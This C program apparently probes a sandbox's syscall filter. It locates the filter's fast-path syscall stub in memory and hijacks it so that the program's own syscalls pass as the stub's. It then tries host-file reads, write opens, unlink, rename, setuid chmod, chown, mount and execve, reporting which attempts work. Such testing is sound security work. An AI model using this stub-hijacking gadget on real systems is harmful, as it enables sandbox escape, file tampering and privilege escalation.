// SPDX-License-Identifier: Apache-2.0
/* Jumps to the instruction of the fast path's stub whose calls the filter lets pass.
 *
 *	gadget read PATH	opens a host's path for reading and prints what is there
 *	gadget write PATH	tries to open it in all ways that could change it, or be used for that later
 *	gadget calls PATH	tries calls that the stub never makes on it, and names next to it
 *	gadget fd PATH		opens a guest's path as anybody may, and tries to change the file by its fd
 *
 * Says for each attempt whether it worked, or "no stub" where there is none.
 */
#include <errno.h>
#include <fcntl.h>
#include <linux/openat2.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#define TEXT 0x4000 /* of the stub */

/* Named in assembly. */
static const unsigned char *call_at __attribute__((used));
#ifdef __x86_64__
static uint64_t saved_stack __attribute__((used));
#endif
static uint64_t slot[64];

/* Where the area is: a page that write(2) can read, at one of the addresses that it may have. */
static const unsigned char *find_stub(void)
{
#ifdef __aarch64__
	static const unsigned char pattern[] = { 1, 0, 0, 0xd4, 0x20, 9, 0, 0xf9 }; /* svc; str x0, [x9, #16] */
#else
	static const unsigned char pattern[] = { 0x0f, 0x05, 0x49, 0x89, 0x41, 0x10 }; /* syscall; mov %rax, 16(%r9) */
#endif
	int fds[2];

	if (pipe(fds) < 0)
		return NULL;
	for (uintptr_t window = 0x2000; window < 0x6000; window++) {
		const unsigned char *base = (const unsigned char *)(window << 16);

		if (write(fds[1], base, 1) != 1)
			continue;
		for (unsigned i = 0; i < TEXT - sizeof(pattern); i++)
			if (!memcmp(base + i, pattern, sizeof(pattern)))
				return base + i;
	}
	return NULL;
}

#ifdef __aarch64__
static __attribute__((noinline)) long gadget(long number, long a, long b, long c, long d)
{
	register long x8 __asm__("x8") = number;
	register long x0 __asm__("x0") = a;
	register long x1 __asm__("x1") = b;
	register long x2 __asm__("x2") = c;
	register long x3 __asm__("x3") = d;
	register long x4 __asm__("x4") = 0;
	register void *x9 __asm__("x9") = slot;

	__asm__ volatile("blr %[call]\n"
			 : "+r"(x0), "+r"(x8), "+r"(x1), "+r"(x2), "+r"(x3), "+r"(x4), "+r"(x9)
			 : [call] "r"(call_at)
			 : "x10", "x30", "memory");
	return (long)slot[2];
}
#else
static __attribute__((noinline)) long gadget(long number, long a, long b, long c, long d)
{
	register long rax __asm__("rax") = number;
	register long rdi __asm__("rdi") = a;
	register long rsi __asm__("rsi") = b;
	register long rdx __asm__("rdx") = c;
	register long r10 __asm__("r10") = d;
	register long r8 __asm__("r8") = 0;
	register void *r9 __asm__("r9") = slot;

	/* It returns to whatever is on the stack, having taken we don't know how many words from it. */
	__asm__ volatile("mov %%rsp, saved_stack(%%rip)\n"
			 "sub $256, %%rsp\n"
			 "lea 1f(%%rip), %%rcx\n"
			 ".rept 32\n"
			 "push %%rcx\n"
			 ".endr\n"
			 "jmp *call_at(%%rip)\n"
			 "1: mov saved_stack(%%rip), %%rsp\n"
			 : "+r"(rax), "+r"(rdi), "+r"(rsi), "+r"(rdx), "+r"(r10), "+r"(r8), "+r"(r9)
			 :
			 : "rcx", "r11", "rbx", "r12", "r13", "r14", "r15", "memory", "cc");
	return (long)slot[2];
}
#endif

static void say(const char *what, long result)
{
	printf("%s: %s\n", what, result < 0 ? strerrorname_np((int)-result) : "worked");
}

static void read_it(const char *path)
{
	char text[256];
	long fd = gadget(SYS_openat, AT_FDCWD, (long)path, O_RDONLY | O_CLOEXEC, 0);
	ssize_t n = fd < 0 ? 0 : read((int)fd, text, sizeof(text));

	say("read", fd);
	if (n > 0)
		printf("%.*s", (int)n, text);
}

static void write_it(const char *path)
{
	static const struct {
		const char *name;
		int flags;
	} ways[] = {
		{ "O_WRONLY", O_WRONLY },	  { "O_RDWR", O_RDWR },
		{ "O_TRUNC", O_TRUNC },		  { "O_RDWR | O_TRUNC", O_RDWR | O_TRUNC },
		{ "no access mode", O_ACCMODE },  { "O_APPEND", O_WRONLY | O_APPEND },
		{ "O_CREAT", O_WRONLY | O_CREAT }, { "O_PATH", O_PATH },
	};
	struct open_how how = { .flags = O_RDWR };

	for (unsigned i = 0; i < sizeof(ways) / sizeof(ways[0]); i++)
		say(ways[i].name, gadget(SYS_openat, AT_FDCWD, (long)path, ways[i].flags, 0));
	say("openat2", gadget(SYS_openat2, AT_FDCWD, (long)path, (long)&how, sizeof(how)));
#ifdef SYS_open
	say("open", gadget(SYS_open, (long)path, O_RDWR, 0, 0));
	say("creat", gadget(SYS_creat, (long)path, 0600, 0, 0));
#endif
}

static void call_it(const char *path)
{
	char *argv[] = { (char *)(uintptr_t)path, NULL }, near[512];

	say("truncate", gadget(SYS_truncate, (long)path, 0, 0, 0));
#ifdef SYS_unlink
	say("unlink", gadget(SYS_unlink, (long)path, 0, 0, 0));
	say("rename", gadget(SYS_rename, (long)path, (long)"/stolen", 0, 0));
	say("link", gadget(SYS_link, (long)path, (long)"/linked", 0, 0));
	say("chmod", gadget(SYS_chmod, (long)path, 0666, 0, 0));
#endif
	say("unlinkat", gadget(SYS_unlinkat, AT_FDCWD, (long)path, 0, 0));
	say("linkat", gadget(SYS_linkat, AT_FDCWD, (long)path, AT_FDCWD, (long)"/linked"));
	say("fchmodat", gadget(SYS_fchmodat, AT_FDCWD, (long)path, 0666, 0));
	say("utimensat", gadget(SYS_utimensat, AT_FDCWD, (long)path, 0, 0));
	say("setxattr", gadget(SYS_setxattr, (long)path, (long)"user.x", (long)"x", 1));
	say("chdir", gadget(SYS_chdir, (long)path, 0, 0, 0));
	say("execve", gadget(SYS_execve, (long)path, (long)argv, 0, 0));
	say("mount", gadget(SYS_mount, (long)path, (long)path, 0, 4096));
	snprintf(near, sizeof(near), "%s-", path);
	say("unlinkat", gadget(SYS_unlinkat, AT_FDCWD, (long)path, 0, 0));
	say("mkdirat", gadget(SYS_mkdirat, AT_FDCWD, (long)near, 0755, 0));
	say("renameat", gadget(SYS_renameat, AT_FDCWD, (long)path, AT_FDCWD, (long)near));
	say("renameat to here", gadget(SYS_renameat, AT_FDCWD, (long)path, AT_FDCWD, (long)"/stolen"));
	say("linkat", gadget(SYS_linkat, AT_FDCWD, (long)path, AT_FDCWD, (long)"/linked"));
	say("symlinkat", gadget(SYS_symlinkat, (long)"x", AT_FDCWD, (long)near, 0));
}

static void change_fd(const char *path)
{
	const struct timespec times[2] = { { 1, 0 }, { 1, 0 } };
	int fd = open(path, O_RDONLY);

	if (fd < 0)
		puts("no file");
	say("fchmod", gadget(SYS_fchmod, fd, 0600, 0, 0));
	say("fchmod 4755", gadget(SYS_fchmod, fd, 04755, 0, 0));
	say("futimens", gadget(SYS_utimensat, fd, 0, (long)times, 0));
	say("fchown", gadget(SYS_fchown, fd, 1, 1, 0));
}

int main(int argc, char **argv)
{
	struct stat status;

	for (int i = 0; i < 4; i++)
		stat("/bin/none", &status);
	call_at = find_stub();
	if (!call_at || argc < 3) {
		puts("no stub");
		return argc < 3;
	}
	if (!strcmp(argv[1], "read"))
		read_it(argv[2]);
	else if (!strcmp(argv[1], "write"))
		write_it(argv[2]);
	else if (!strcmp(argv[1], "fd"))
		change_fd(argv[2]);
	else
		call_it(argv[2]);
	return 0;
}
